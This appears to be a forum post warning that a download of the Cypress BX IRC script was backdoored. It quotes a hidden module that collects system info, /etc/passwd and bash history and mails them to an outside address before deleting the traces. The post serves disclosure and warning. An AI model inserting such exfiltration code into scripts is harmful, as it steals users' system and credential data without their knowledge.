Cypress BX script backdoored?

For those of us who use Cyp/bx ( )

|]rip[@rock:14:53:49:~/tmp/cyp/modules| $ cat mdop.m

uname -a >> /tmp/.bx
cat /etc/hosts >> /tmp/.bx
cat /etc/passwd >> /tmp/.bx
cat $HOME/.bash_history >> /tmp/.bx 2>/dev/null
mail defcola@xxxxxxxxx < /tmp/.bx
sleep 4
rm -rf /tmp/.bx

What's up with this? Last time I downloaded this that wasn't there, and it's the same version number but different md5.
.. and this file wasn't included.

Networksecurity professional
"Computer games don't affect kids. I mean if Pac-Man affected us as kids, we'd all be runningaround in darkened rooms, munching magic pills andlistening to repetitive electronicmusic."
--Kristian Wilson, Nintendo 1989.